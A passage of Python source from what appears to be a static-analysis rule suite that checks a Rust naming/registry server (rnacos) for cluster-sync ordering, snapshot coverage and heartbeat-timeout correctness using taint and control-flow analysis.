            if c is not None and str(c.get('v')) == '0':
                zero.append((x, bb))
    ck.floor(R, 'assignments from_cluster = 0 in update_instance', len(zero), 1)
    ok = False
    for (x, bb) in zero:
        for a in cfg.guard_atoms(x, bb):
            if a[0] == 'cmp' and a[1] == 'Eq' and a[4] is True:
                fs = set()
                for d in (a[2], a[3]):
                    d = cfg.strip_calls(x, d) if d['k'] == 'call' else d
                    if d['k'] == 'place':
                        fs.add(d['fields'][-1])
                if {'from_cluster', 'node_id'} <= fs:
                    ok = True
    ck.require(ok, R, 'update_instance:own-instance-keeps-origin-0', b.where(),
               'update_instance never recognises an incoming copy of an instance this node holds itself (from_cluster == self.node_id): the copy is stored '
               'with the node\'s own id as foreign origin, and build_snapshot_data / build_distro_instances (which skip is_from_cluster()) leave the instance '
               'out for ever', 'from_cluster == node_id is recognised and stored as own')


def r15m(ck, fb, R='R15m'):
    ck.rule(R, '"a node that (re)joins receives the others\' data" - also the data about the services it owns itself: those exist on the peers only as '
               'copies, and no peer counts them as its own. The ranges a peer answers a QuerySnapshot with (get_cluster_process_range) include a '
               'ProcessRange built from the position of the ASKING node among the valid nodes and their number (the same population as R14a), and the '
               'QuerySnapshot arm of handle_naming_route hands the id of the asking node to that request. (Before the repair the asking node\'s '
               'services were sent only while the start-up range (0,1) was still in history_ranges - the first 16.7 h of a peer\'s uptime.)')
    INM = 'rnacos::naming::cluster::node_manage::InnerNodeManage::'
    g = ck.body(INM + 'get_cluster_process_range', R)
    if g:
        ids = [l for l in range(2, g.argc + 1) if (g.local_ty(l) or '') == 'u64']
        news = g.calls(r'cluster::model::ProcessRange::new$')
        tree = fb.tree(INM + 'get_cluster_process_range')
        # the closure of `position` compares with the id parameter (captured)
        pos = g.calls(r'Iterator>::position|Iterator::position')
        tp = Taint(g, call_src=lambda t: re.search(r'Iterator>::position|Iterator::position', cfg.callee_name(t) or '') is not None)
        tf = Taint(g, call_src=lambda t: re.search(r'Iterator>::filter|Iterator::filter', cfg.callee_name(t) or '') is not None)
        tid = Taint(g, local_src=ids)
        valid = any(c.calls(r'ClusterInnerNode::is_valid$') for c in tree[1:])
        good = [s0 for s0 in news if len(s0.args) == 2 and tp.op_tainted(s0.args[0]) and tf.op_tainted(s0.args[1])]
        asks = [s0 for s0 in pos if any(tid.op_tainted(a) for a in s0.args)]
        pushed = [p0 for p0 in g.calls(r'Vec::<.*>::push$') for s0 in good
                  if Taint(g, local_src=[s0.dst] if isinstance(s0.dst, int) else []).op_tainted(p0.args[1])]
        ck.require(bool(ids) and bool(good) and bool(asks) and valid and bool(pushed), R, 'get_cluster_process_range:includes-asking-node', g.where(),
                   'the ranges a peer answers a snapshot query with do not include the range of the node that asks (position of its id among the '
                   'valid nodes, number of valid nodes): a node restarted faster than the failure detection never gets the HTTP instances of the '
                   'services it owns back from its peers; with a silent client the nodes differ for ever', 'the asking node\'s range is added')
    h = [b for b in fb.find(r'^rnacos::naming::cluster::handle_naming_route') if True]
    hs = [b for b in h if util.sends(b, r'NodeManageRequest$', 'QueryOwnerRange')]
    ck.floor(R, 'bodies that send QueryOwnerRange', len(hs), 1)
    for b in hs:
        ck.analysed(b)
        t = Taint(b, call_src=lambda t: (cfg.callee_name(t) or '').endswith('get_cluster_id'))
        for (s0, m0, v0, a0) in util.sends(b, r'NodeManageRequest$', 'QueryOwnerRange'):
            ck.require(any(t.op_tainted(o) for o in a0['ops']), R, 'handle_naming_route:QueryOwnerRange-carries-asking-node', s0.where(),
                       'the snapshot query does not tell the node manager which node asks', 'the id of the asking node is part of the request')


def r15o(ck, fb, R='R15o'):
    ck.rule(R, 'a batch that has to be sent twice still arrives before the batch that supersedes it: ClusteSyncSender retries a failed send once after a '
               'pause, while the changes of the next tick are already on their way as another request (requests to one peer are independent futures, '
               'the receiver applies them in arrival order). The pause (a literal Duration in the handler of SyncSenderRequest) is shorter than the '
               'flush period of ClusterInstanceDelayNotifyActor (the literal `delay` it is built with): otherwise a registration whose first send '
               'fails is delivered AFTER the removal queued half a second later, and the peer keeps the instance for ever (a copy of an HTTP '
               'instance has no time-out there). A necessary condition only: a slow first failure can still be overtaken')
    from rn.facts import op_const
    SS = '<rnacos::naming::cluster::sync_sender::ClusteSyncSender as actix::Handler<rnacos::naming::cluster::model::SyncSenderRequest>>::handle'
    h = ck.body(SS, R)
    if not h:
        return
    pauses = []
    for x in fb.tree(SS):
        for s0 in x.calls(r'Duration::from_(millis|secs)$'):
            c = op_const(s0.args[0]) if s0.args else None
            if c is None or 'v' not in c:
                continue
            t = Taint(x, local_src=[s0.dst] if isinstance(s0.dst, int) else [])
            if any(t.op_tainted(a) for s1 in x.calls(r'tokio::time::sleep$|time::sleep::sleep$|::sleep$') for a in s1.args):
                pauses.append((int(c['v']) * (1000 if s0.callee.endswith('from_secs') else 1), s0))
    ck.floor(R, 'literal pauses before a retry in the sync sender', len(pauses), 1)
    nb = ck.body('rnacos::naming::cluster::instance_delay_notify::ClusterInstanceDelayNotifyActor::new', R)
    period = None
    if nb:
        for (i, j, st) in nb.aggregates(r'ClusterInstanceDelayNotifyActor$'):
            rv = st['rv']
            if 'delay' in rv.get('fields', []):
                c = op_const(rv['ops'][rv['fields'].index('delay')])
                if c is not None and 'v' in c:
                    period = int(c['v'])
    if not ck.require(period is not None, R, 'delay-notify:period-literal', nb.where() if nb else '-', 'the flush period of the delay-notify actor is no longer a literal of its constructor: the rule cannot compare'):
        return
    for (ms, s0) in pauses:
        ck.require(ms < period, R, 'sync_sender:retry-pause-below-flush-period', s0.where(),
                   'a failed cluster sync request is retried after %d ms, the next batch for the same peer leaves after %d ms: the retried (older) batch '
                   'arrives after the newer one and is applied last - register + deregister of an HTTP instance leaves a copy on that peer for ever'
                   % (ms, period), '%d ms < %d ms' % (ms, period))


def r15p(ck, fb, R='R15p'):
    ck.rule(R, 'one instance cannot make a whole sync message unreadable: batches and snapshots between the nodes carry each instance as serde_json, '
               'serde_json writes a non-finite float as null, and the receiver gives up on the WHOLE batch / snapshot when one item does not parse. '
               'Every bare f32 / f64 field of a type reachable from SyncBatchForReceive / SnapshotForReceive is decoded by a decoder of its own '
               '(the open api accepts weight=NaN): otherwise every other change of the same 500 ms batch, every 15 s heartbeat batch and every '
               'snapshot of that owner is lost on all peers')
    from rules.c02 import float_fields_decode_null
    M = 'rnacos::naming::cluster::model::'
    float_fields_decode_null(ck, fb, R, [M + 'SyncBatchForReceive', M + 'SnapshotForReceive'], 'cluster sync payload types', 3,
                             'one instance registered with weight=NaN: the owner lists both instances of the batch, nodes 2 and 3 list nothing (3-node run)')


def r15q(ck, fb, R='R15q'):
    ck.rule(R, 'what a node tells a peer arrives in the order it was said: the receiver applies sync requests in the order of their arrival, so the '
               'requests of ClusteSyncSender to its peer leave one after the other, a retransmission included - the future that sends (and sends '
               'again) is registered with ctx.wait. As independent futures a registration whose first attempt fails slowly is delivered after the '
               'batch that removes the instance again, and the peer keeps a copy that nothing ever expires')
    SS = '<rnacos::naming::cluster::sync_sender::ClusteSyncSender as actix::Handler<rnacos::naming::cluster::model::SyncSenderRequest>>::handle'
    h = ck.body(SS, R)
    if not h:
        return
    tree = fb.tree(SS)
    senders = [c for c in tree[1:] if any(y.calls(r'RaftClusterRequestSender::send_request$|::send_request$') for y in [c] + [z for z in tree[1:] if (z.parent or '') == c.name])]
    ck.floor(R, 'futures of the handler that send to the peer', len(senders), 1)
    ok = False
    for (i, j, st, cdef) in h.closures_created():
        if not any(c.name == cdef for c in senders):
            continue
        d = st.get('d')
        t = Taint(h, local_src=[d] if isinstance(d, int) else [])
        # directly, or wrapped into another future that awaits it
        wrappers = [st2.get('d') for (i2, j2, st2, c2) in h.closures_created() if any(t.op_tainted(o) for o in st2['rv'].get('ops', []))]
        t2 = Taint(h, local_src=[x for x in [d] + wrappers if isinstance(x, int)])
        for s0 in h.calls(r'ContextFutureSpawner::wait$|AsyncContext::wait$'):
            if any(t2.op_tainted(a) for a in s0.args):
                ok = True
    ck.require(ok, R, 'SyncSenderRequest:sends-are-serialised', h.where(),
               'the future that sends a sync request to the peer (and retries it) is returned as an ordinary actor future: requests to one peer overtake each '
               'other - a retransmitted registration arrives after the removal that followed it (peer fails its first request after 600 ms: owner returns '
               '[], peer returns [10.0.0.9:8080] for ever)', 'registered with ctx.wait')


def r15r(ck, fb, R='R15r'):
    ck.rule(R, 'the anti-entropy round compares SETS: every 12 s a node reports, per gRPC connection it holds, the keys it registered; the receiver '
               '(NamingActor::diff_grpc_distro_client_data) removes what it holds beyond the report and asks for what it lacks. For a client it knows, '
               'an iteration of the loop over the reported clients cannot come back to the loop head without having passed both set differences (or an '
               'equality test of the two sets): a shortcut on the sizes skips a client that deregistered k instances and registered k others - when the '
               'incremental sync of that change was lost, this round is the only repair left, and the nodes differ for ever')
    b = ck.body('rnacos::naming::core::NamingActor::diff_grpc_distro_client_data', R)
    if not b:
        return
    diffs = b.calls(r'HashSet::<T, S>::difference$|HashSet::<T, S, A>::difference$|BTreeSet::<T, A>::difference$|HashSet::<T, S>::symmetric_difference$')
    ck.floor(R, 'set differences in diff_grpc_distro_client_data', len(diffs), 2)
    look = util.mut_calls_on_field(b, 'client_instance_set', r'HashMap::<K, V, S, A>::(get|get_mut)$')
    some = util.option_edges(b, look, 'Some')
    if not ck.require(bool(some), R, 'diff:anchor-known-client', b.where(), 'the lookup of the reported client in client_instance_set was not found'):
        return
    eqs = set()
    via = {s0.bb for s0 in diffs} | eqs
    # from the Some edge, can the iteration return to the loop head (the `next` call of the outer loop) without passing a difference?
    heads = {s0.bb for s0 in b.calls(r'Iterator>::next$|Iterator::next$')}
    leak = []
    for (s0, d0, lab0) in some:
        free = cfg.reach_from(b, [d0], blocked_blocks=via)
        leak += [x for x in heads if x in free and cfg.dominates_blocks(b, {x}, s0)]
    ck.require(not leak, R, 'diff:known-client-is-always-compared', b.where(leak[0]) if leak else b.where(),
               'for a client this node knows, the reconciliation can go on to the next client without having compared the two key sets (a path from the '
               'lookup back to the loop head passes no set difference): a client whose key count is unchanged but whose keys differ is never repaired',
               'both differences on every iteration')
