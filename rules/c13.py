"""C13 Ephemeral HTTP instances expire without heartbeats, never while heart-beating."""
import re
from rn.facts import rv_operands
from rn import cfg, util
from rn.flow import Taint, field_place_src
from rn.tables import check_table
from rn.absint import Ref, SymObj, BV

SV = 'rnacos::naming::service::Service::'
NA = 'rnacos::naming::core::NamingActor::'
IM = 'rnacos::naming::model::Instance::'


def run(ck, fb):
    _run0(ck, fb)
    r13e(ck, fb)
    r13f(ck, fb)
    r13g(ck, fb)
    r13h(ck, fb)
    r13i(ck, fb)
    r13j(ck, fb)
    r13k(ck, fb)
    r13l(ck, fb)
    r13m(ck, fb)
    r13n(ck, fb)
    r13o(ck, fb)
    r13p(ck, fb)
    r13q(ck, fb)
    r13r(ck, fb)
    r13s(ck, fb)


def _run0(ck, fb):
    ck.explanation = (
        'Decides necessary conditions of the heartbeat clock: (a) who is subject to it: the truth table of Instance::is_enable_timeout over '
        '{ephemeral, from_grpc, from_cluster} equals "ephemeral && !grpc && not owned by another node" (exhaustive interpretation of the '
        'compiled function); (b) re-validation before expiry: in Service::time_check both the removal and the mark-unhealthy step are '
        'skipped (continue) when the instance is not subject to the clock or its last heartbeat is newer than the cut-off; (c) arming: '
        'healthy_timeout_set.add in update_instance only under is_enable_timeout() with the instance\'s last_modified time, '
        'unhealthy_timeout_set.add only when an instance is marked unhealthy, do_refresh_process_range re-arms only taken-over HTTP '
        'instances; (d) the 2 s driver re-arms itself and reaches time_check; cut-offs are now - configured time-outs.')
    ck.undecided = 'Does not decide anything about real time or about the TimeoutSet implementation (external crate).'
    ck.rule('R13a', 'Instance::is_enable_timeout == ephemeral && !from_grpc && from_cluster == 0 (exhaustive truth table); '
                    'is_from_cluster == from_cluster > 0')
    b = ck.body(IM + 'is_enable_timeout', 'R13a')
    if b:
        check_table(ck, fb, 'R13a', 'is_enable_timeout', b, lambda: [Ref(obj=SymObj('self'))],
                    lambda a: a['self.ephemeral'] and not a['self.from_grpc'] and a['self.from_cluster'] == 0,
                    domains={'u64': [0, 1, 2, 99]},
                    all_atoms={'self.ephemeral': [False, True], 'self.from_grpc': [False, True], 'self.from_cluster': [0, 1, 2, 99]})
    b2 = ck.body(IM + 'is_from_cluster', 'R13a')
    if b2:
        check_table(ck, fb, 'R13a', 'is_from_cluster', b2, lambda: [Ref(obj=SymObj('self'))], lambda a: a['self.from_cluster'] > 0,
                    domains={'u64': [0, 1, 2, 99]})
    ck.rule('R13b', 'Service::time_check: remove_instance / update_instance_healthy_invalid are reached only past the re-validation '
                    '(instance present => is_enable_timeout() true and last_modified_millis <= cut-off); keys come from the matching '
                    'timeout set drained with the matching cut-off (unhealthy set <-> offline_time, healthy set <-> healthy_time)')
    t = ck.body(SV + 'time_check', 'R13b')
    if t:
        for callee, setf, cutoff in ((SV + 'remove_instance', 'unhealthy_timeout_set', 'offline_time'),
                                     (SV + 'update_instance_healthy_invalid', 'healthy_timeout_set', 'healthy_time')):
            cs = t.calls(re.escape(callee) + '$')
            ck.require(len(cs) == 1, 'R13b', 'time_check:%s' % callee.split('::')[-1], t.where(), 'time_check does not call %s exactly once' % callee)
            for s in cs:
                # there must be a `continue` path: a block with is_enable_timeout==false or last_modified > cutoff that bypasses s
                en = [x for x in t.calls(re.escape(IM + 'is_enable_timeout') + '$')]
                ok_en = ok_lm = False
                for e in en:
                    # the false edge of is_enable_timeout must not reach s without passing the loop head again
                    # find switch on e.dst
                    for (src, dst, lab, term) in cfg.switch_edges(t):
                        d = cfg.describe_operand(t, term['discr'])
                        neg = False
                        while d['k'] == 'un' and d['op'] == 'Not':
                            neg = not neg
                            d = cfg.describe_operand(t, d['a'])
                        if d['k'] == 'call' and d['bb'] == e.bb:
                            pol = cfg.edge_polarity(term, lab)
                            if neg:
                                pol = not pol
                            if pol is False:
                                # skipping edge: from dst, s.bb must be unreachable without going through a timeout-set iterator `next`
                                nxt = [x.bb for x in t.calls(r'Iterator>::next$')]
                                r = cfg.reach_from(t, [dst], blocked_blocks=nxt)
                                if s.bb not in r and s.bb in cfg.reach_from(t, [e.bb]):
                                    ok_en = True
                for (src, dst, lab, term) in cfg.switch_edges(t):
                    d = cfg.describe_operand(t, term['discr'])
                    if d['k'] == 'bin' and d['op'] in ('Gt', 'Ge', 'Lt', 'Le'):
                        da, db = cfg.describe_operand(t, d['a']), cfg.describe_operand(t, d['b'])
                        fa = cfg.strip_calls(t, da)
                        lm = fa['k'] == 'place' and fa['fields'][-1:] == ['last_modified_millis']
                        cut = [l for l in range(1, t.argc + 1) if t.local_name(l) == cutoff]
                        tb = Taint(t, local_src=cut)
                        if lm and tb.op_tainted(d['b']) and d['op'] in ('Gt', 'Ge'):
                            pol = cfg.edge_polarity(term, lab)
                            if pol is True:
                                nxt = [x.bb for x in t.calls(r'Iterator>::next$')]
                                r = cfg.reach_from(t, [dst], blocked_blocks=nxt)
                                if s.bb not in r and s.bb in cfg.reach_from(t, [src]):
                                    ok_lm = True
                if not (ok_en and ok_lm):
                    # the re-validation may live in a bool helper of Service (extract-method): the action is reached only on its false edge,
                    # the helper is handed the matching cut-off, and its truth table is  found && (!is_enable_timeout || last_modified > cut-off)
                    h_en, h_lm, _h_none = _stale_helper(ck, fb, t, s, cutoff)
                    ok_en, ok_lm = ok_en or h_en, ok_lm or h_lm
                # a skipped key must not end the scan: from every skip edge the loop's `next` is reached again (continue, not break/return)
                nxt_all = [x.bb for x in t.calls(r'Iterator>::next$')]
                loop_next = [n for n in nxt_all if s.bb in cfg.reach_from(t, [n]) and n in cfg.reach_from(t, [s.bb])]
                skips_ok = True
                for (src, dst, lab, term) in cfg.switch_edges(t):
                    if src not in cfg.reach_from(t, loop_next) or s.bb not in cfg.reach_from(t, [src]):
                        continue
                    dd = cfg.describe_operand(t, term['discr'])
                    if dd['k'] == 'discr':
                        pdd = cfg.describe_operand(t, {'cp': dd['pl']})
                        if pdd['k'] == 'call' and pdd['bb'] in loop_next:
                            continue    # the iterator's own Some/None test: None legitimately ends the loop
                    if s.bb in cfg.reach_from(t, [dst], blocked_blocks=loop_next):
                        continue    # this edge goes on to the action
                    # an edge inside the loop body that bypasses the action must come back to the loop head
                    if not any(n in cfg.reach_from(t, [dst]) for n in loop_next):
                        skips_ok = False
                ck.require(bool(loop_next) and skips_ok, 'R13b', 'time_check:%s:skip-continues-scan' % callee.split('::')[-1], s.where(),
                           'a key that is skipped by the re-validation ends the scan of the drained batch (break/return instead of continue): the other '
                           'drained instances are never marked unhealthy or removed although their entries have been taken out of the timeout set')
                ck.require(ok_en, 'R13b', 'time_check:%s:revalidates-clock-subject' % callee.split('::')[-1], s.where(),
                           '%s is reached although the instance is no longer subject to the heartbeat clock (persistent / gRPC / owned elsewhere)' % callee.split('::')[-1])
                ck.require(ok_lm, 'R13b', 'time_check:%s:revalidates-last-heartbeat' % callee.split('::')[-1], s.where(),
                           '%s is reached although a heartbeat newer than %s arrived: a heart-beating instance is expired' % (callee.split('::')[-1], cutoff))
            to = [x for x in t.calls(r'TimeoutSet::<T>::timeout$') if util.recv_fields(t, x)[-1:] == [setf]]
            ck.require(len(to) >= 1, 'R13b', 'time_check:drains:%s' % setf, t.where(), '%s is not drained' % setf)
            for x in to:
                cut = [l for l in range(1, t.argc + 1) if t.local_name(l) == cutoff]
                tb = Taint(t, local_src=cut)
                ck.require(tb.op_tainted(x.args[1]), 'R13b', 'time_check:%s<-%s' % (setf, cutoff), x.where(), '%s is drained with the wrong cut-off' % setf)
    ck.rule('R13c', 'arming: healthy_timeout_set.add in update_instance is guarded by is_enable_timeout() and keyed by '
                    'last_modified_millis; unhealthy_timeout_set.add only in update_instance_healthy_invalid (after healthy=false); '
                    'do_refresh_process_range arms only !from_grpc && is_from_cluster() instances')
    u = ck.body(SV + 'update_instance', 'R13c')
    if u:
        adds = [s for s in u.calls(r'TimeoutSet::<T>::add$') if util.recv_fields(u, s)[-1:] == ['healthy_timeout_set']]
        ck.require(len(adds) == 1, 'R13c', 'update_instance:arms-once', u.where(), 'update_instance does not arm the health time-out exactly once')
        for s in adds:
            atoms = cfg.guard_atoms(u, s.bb)
            g1 = any(a[0] == 'call' and (a[1] or '').endswith('is_enable_timeout') and a[2] is True for a in atoms)
            g2 = False
            for (src, dst, lab, term) in cfg.dominating_edges(u, s.bb):
                d = cfg.describe_operand(u, term['discr'])
                neg = False
                while d['k'] == 'un' and d['op'] == 'Not':
                    neg = not neg
                    d = cfg.describe_operand(u, d['a'])
                if d['k'] == 'arg' and u.local_name(d['l']) == 'from_sync':
                    pol = cfg.edge_polarity(term, lab)
                    if neg:
                        pol = not pol
                    g2 = pol is False
            # (the pinned code also demanded !from_sync; that conjunct is not required by the property - it was the defect R13g reports)
            ck.require(g1, 'R13c', 'update_instance:arm-guard', s.where(),
                       'the health time-out is armed outside is_enable_timeout(): %s' % [cfg.fmt_atom(a) for a in atoms])
            ck.require(cfg.origin_fields(u, s.args[1])[-1:] == ['last_modified_millis'], 'R13c', 'update_instance:arm-time', s.where(),
                       'the health time-out is not keyed by the instance\'s last heartbeat time')
        # every registration reaches the arming test: instances.insert is dominated by the is_enable_timeout call
        ins = util.mut_calls_on_field(u, 'instances', r'HashMap::<K, V, S, A>::insert$')
        en = u.calls(re.escape(IM + 'is_enable_timeout') + '$')
        ck.require(bool(ins) and bool(en) and all(cfg.dominates_blocks(u, {e.bb for e in en}, s.bb) for s in ins), 'R13c', 'update_instance:arm-on-every-path', u.where(),
                   'an instance can be stored without passing the arming test')
    for b in fb.find('^' + re.escape(SV)):
        if b.parent:
            continue
        for s in b.calls(r'TimeoutSet::<T>::add$'):
            f = util.recv_fields(b, s)[-1:]
            if f == ['unhealthy_timeout_set']:
                ck.require(b.name == SV + 'update_instance_healthy_invalid', 'R13c', 'unhealthy-arm:%s' % b.name, s.where(), 'the removal time-out is armed in %s' % b.name)
            if f == ['healthy_timeout_set']:
                ck.require(b.name in (SV + 'update_instance', SV + 'do_refresh_process_range'), 'R13c', 'healthy-arm:%s' % b.name, s.where(), 'the health time-out is armed in %s' % b.name)
    inv = ck.body(SV + 'update_instance_healthy_invalid', 'R13c')
    if inv:
        adds = [s for s in inv.calls(r'TimeoutSet::<T>::add$')]
        hw = [(bb, st) for (o, f, bb, st) in inv.field_writes() if f == 'healthy' and o.endswith('Instance')]
        ck.require(len(adds) >= 1 and len(hw) >= 1, 'R13c', 'healthy_invalid:marks-and-arms', inv.where(), 'update_instance_healthy_invalid does not (set healthy=false, arm removal)')
        if hw:
            from rn.facts import op_const
            c = op_const(hw[0][1]['rv'].get('op', {})) if hw[0][1]['rv']['k'] == 'use' else None
            ck.require(c is not None and c.get('v') in (False, 'false', 0), 'R13c', 'healthy_invalid:false', inv.where(hw[0][0]), 'healthy is not set to false')
    rf = fb.tree(SV + 'do_refresh_process_range') if fb.has(SV + 'do_refresh_process_range') else []
    if rf:
        cl = [x for x in rf[1:]]
        ok = False
        for c in cl:
            ck.analysed(c)
            rfs = util.read_fields(c)
            if 'from_grpc' in rfs and c.calls(re.escape(IM + 'is_from_cluster') + '$'):
                ok = True
        ck.require(ok, 'R13c', 'do_refresh_process_range:filter', rf[0].where(), 'taken-over instances are not selected by (!from_grpc && is_from_cluster())')
    ck.rule('R13d', 'driver: NamingActor::instance_time_out_heartbeat re-arms itself in its run_later closure and sends PeekListenerTimeout, '
                    'whose arm calls NamingActor::time_check; time_check computes cut-offs as now - configured time-outs and calls '
                    'Service::time_check(healthy_time, offline_time) in that order')
    hb = ck.body(NA + 'instance_time_out_heartbeat', 'R13d')
    if hb:
        cl = fb.tree(NA + 'instance_time_out_heartbeat')[1:]
        ok = False
        for c in cl:
            re_ = c.calls(re.escape(NA + 'instance_time_out_heartbeat') + '$')
            pk = util.sends(c, r'NamingCmd$', 'PeekListenerTimeout')
            if re_ and pk:
                rets = c.return_blocks()
                ok = all(not (set(rets) & cfg.reach_from(c, [0], blocked_blocks={x.bb})) for x in (re_[0], pk[0][0]))
        ck.require(ok and len(hb.calls(r'AsyncContext::run_later$')) == 1, 'R13d', 'heartbeat:rearms+peeks', hb.where(), 'the 2s driver does not re-arm itself / trigger the time check on every path')
    h = ck.body('<rnacos::naming::core::NamingActor as actix::Handler<rnacos::naming::core::NamingCmd>>::handle', 'R13d')
    if h:
        tc = h.calls(re.escape(NA + 'time_check') + '$')
        ok = any(('rnacos::naming::core::NamingCmd', 'PeekListenerTimeout') in util.variant_guards(h, s.bb) for s in tc)
        ck.require(ok, 'R13d', 'PeekListenerTimeout->time_check', h.where(), 'PeekListenerTimeout does not run time_check')
    tc = ck.body(NA + 'time_check', 'R13d')
    if tc:
        cs = tc.calls(re.escape(SV + 'time_check') + '$')
        ck.require(len(cs) >= 1, 'R13d', 'time_check:calls-service', tc.where(), 'Service::time_check not called')
        for s in cs:
            t1 = Taint(tc, place_src=field_place_src('instance_health_timeout_millis'))
            t2 = Taint(tc, place_src=field_place_src('instance_timeout_millis'))
            ck.require(t1.op_tainted(s.args[1]) and not t2.op_tainted(s.args[1]) and t2.op_tainted(s.args[2]) and not t1.op_tainted(s.args[2]), 'R13d',
                       'time_check:cutoffs', s.where(), 'cut-offs passed to Service::time_check are not (now - health timeout, now - instance timeout)')
            # both are subtractions from the current time
            subs = [st for (i, j, st) in tc.stmts() if st.get('rv', {}).get('k') == 'bin' and st['rv']['op'] in ('Sub', 'SubWithOverflow')]
            ck.require(len(subs) >= 2, 'R13d', 'time_check:now-minus-timeout', tc.where(), 'cut-offs are not computed as now - timeout')


def r13e(ck, fb):
    ck.rule('R13e', 'a heartbeat carries its own liveness: in Service::update_instance the fields `healthy` and `last_modified_millis` of the incoming '
                    'instance are never overwritten from the stored record (neither by assignment nor by clone_into), in any merge branch - the '
                    'stored record may only hand down registration data (register_time, owner fields, enabled / ephemeral / weight / metadata)')
    b = ck.body(SV + 'update_instance', 'R13e')
    if not b:
        return
    from rn.facts import op_place, pl_local, pl_proj, rv_operands
    FORBID = ('healthy', 'last_modified_millis')
    inst = 2   # parameter `instance`
    told = Taint(b, call_src=lambda t: (t.get('f') or {}).get('d', '').endswith('HashMap::<K, V, S>::get') or (t.get('f') or {}).get('d', '').endswith('::get'))
    n = 0
    bad = []
    for s in b.calls(r'ToOwned>::clone_into$|Clone>::clone_from$'):
        n += 1
        d = cfg.describe_operand(b, s.args[1])
        txt = cfg.fmt_desc(d)
        dst_fields = d.get('fields') or []
        root = d.get('root', {})
        if dst_fields and dst_fields[-1] in FORBID and root.get('k') == 'arg' and root.get('l') == inst:
            bad.append((s.where(), dst_fields[-1]))
        elif d['k'] not in ('place',) and any(('.' + f) in txt for f in FORBID):
            bad.append((s.where(), txt[:40]))
    for (i, j, st) in b.stmts():
        dpl = st.get('d')
        if isinstance(dpl, dict) and pl_local(dpl) == inst:
            fs = [e.get('f') for e in pl_proj(dpl) if isinstance(e, dict) and 'f' in e]
            if fs and fs[-1] in FORBID and st.get('rv') and any(told.op_tainted(o) for o in rv_operands(st['rv'])):
                bad.append((b.where(i), fs[-1]))
    ck.floor('R13e', 'merge sites (clone_into) in update_instance', n, 4)
    ck.require(not bad, 'R13e', 'update_instance:liveness-not-inherited', bad[0][0] if bad else b.where(),
               'the incoming instance takes %s from the stored record: a heartbeat that arrives after the instance was marked unhealthy no longer '
               'makes it healthy again (it stays listed unhealthy while heart-beating), and because an already-unhealthy instance is not queued for '
               'removal again it is never removed once the stale removal entry has been skipped' % sorted(set(x[1] for x in bad)))


def r13f(ck, fb):
    ck.rule('R13f', 'take-over arms a clock that can fire: Service::do_refresh_process_range puts instances that came from another node '
                    '(is_from_cluster()) into healthy_timeout_set, and Service::time_check drops every drained key whose instance is not '
                    'is_enable_timeout() (= ephemeral && !from_grpc && !is_from_cluster()). The two agree only if the take-over also makes the '
                    'instance local (assigns from_cluster = 0 to what it arms); otherwise the entry is consumed and skipped and the instance of a '
                    'dead owner is never marked unhealthy or removed')
    b = ck.body(SV + 'do_refresh_process_range', 'R13f')
    t = ck.body(SV + 'time_check', 'R13f')
    if not b or not t:
        return
    region = util.region(fb, b)
    adds = [(x, s) for x in region for s in util.mut_calls_on_field(x, 'healthy_timeout_set', r'::add$')]
    ck.floor('R13f', 'healthy_timeout_set.add in do_refresh_process_range', len(adds), 1)
    # the drain side really re-validates with is_enable_timeout
    reval = [sx for x in util.region(fb, t) for sx in x.calls(re.escape(IM) + r'is_enable_timeout$')]
    ck.require(len(reval) >= 1, 'R13f', 'time_check:revalidates', t.where(), 'time_check no longer re-validates drained keys with is_enable_timeout')
    sel_cluster = any(x.calls(re.escape(IM) + r'is_from_cluster$') for x in region)
    clears = []
    for x in region:
        for (i, j, st) in x.stmts():
            d = st.get('d')
            if isinstance(d, dict):
                from rn.facts import pl_proj
                fs = [e.get('f') for e in pl_proj(d) if isinstance(e, dict) and 'f' in e]
                rv = st.get('rv') or {}
                if fs[-1:] == ['from_cluster'] and rv.get('k') == 'use' and 'c' in rv.get('op', {}) and str(rv['op']['c'].get('v')) == '0':
                    clears.append((x, i))
    ok = bool(clears) or not sel_cluster
    ck.require(ok, 'R13f', 'do_refresh_process_range:takes-ownership', b.where(),
               'do_refresh_process_range arms the health clock for instances selected by is_from_cluster() but leaves from_cluster set: '
               'time_check consumes the entry and skips it (is_enable_timeout() is false), so an HTTP instance whose owner node died is never '
               'expired by the node that took its service over', 'from_cluster = 0 for what is armed')


def r13g(ck, fb):
    ck.rule('R13g', 'every stored instance that is subject to the heartbeat clock has its clock armed: in Service::update_instance the '
                    'healthy_timeout_set.add site is conditional on is_enable_timeout() == true and on nothing else (in particular not on how the '
                    'update arrived): NamingActor::update_instance turns an instance of an owned service into a local one (from_cluster = 0) also '
                    'when it arrives through a sync or a snapshot, and nobody else will ever arm it')
    b = ck.body(SV + 'update_instance', 'R13g')
    if not b:
        return
    adds = util.mut_calls_on_field(b, 'healthy_timeout_set', r'::add$')
    ck.floor('R13g', 'healthy_timeout_set.add in update_instance', len(adds), 1)
    for s in adds:
        atoms = cfg.guard_atoms(b, s.bb)
        en = [a for a in atoms if a[0] == 'call' and (a[1] or '').endswith('Instance::is_enable_timeout') and a[2] is True]
        extra = []
        for a in atoms:
            if a in en:
                continue
            if a[0] == 'other':
                if isinstance(a[1], dict) and a[1].get('k') == 'arg':
                    nm = (b.locals[a[1]['l']].get('n') if a[1]['l'] < len(b.locals) else None) or ('parameter _%d' % a[1]['l'])
                    extra.append('%s == %s' % (nm, a[2]))
                continue
            if a[0] in ('variant', 'notvariant', 'variantin') and 'Iterator>::next' in cfg.fmt_desc(a[3]):
                continue
            extra.append(cfg.fmt_atom(a))
        ck.require(bool(en), 'R13g', 'update_instance:arms-under-is_enable_timeout', s.where(), 'the clock is armed without asking is_enable_timeout()')
        ck.require(not extra, 'R13g', 'update_instance:arms-whenever-subject', s.where(),
                   'the clock of an instance that is subject to the heartbeat time-out is armed only when %s: an HTTP instance of an owned service that '
                   'arrives through a sync or snapshot (owner restarted, client already dead) is stored as local, never armed, and never expires' % extra,
                   'conditional on is_enable_timeout() only')


def _stale_helper(ck, fb, t, s, cutoff):
    """(clock-subject ok, last-heartbeat ok) established through a bool helper guarding the action site s in time_check"""
    from rn.absint import enumerate_tables, Ref, SymObj, BV, Adt, Undecided, Unsupported, Panic, NeedAtom
    for a in cfg.guard_atoms(t, s.bb):
        if a[0] != 'call' or a[2] is not False:
            continue
        name = a[1] or ''
        if not name.startswith(SV) or not fb.has(name):
            continue
        h = fb.get(name)
        if h.local_ty(0) != 'bool':
            continue
        term = a[3]
        cut = [l for l in range(1, t.argc + 1) if t.local_name(l) == cutoff]
        tb = Taint(t, local_src=cut)
        idx = [k for k, arg in enumerate(term.get('args') or []) if tb.op_tainted(arg)]
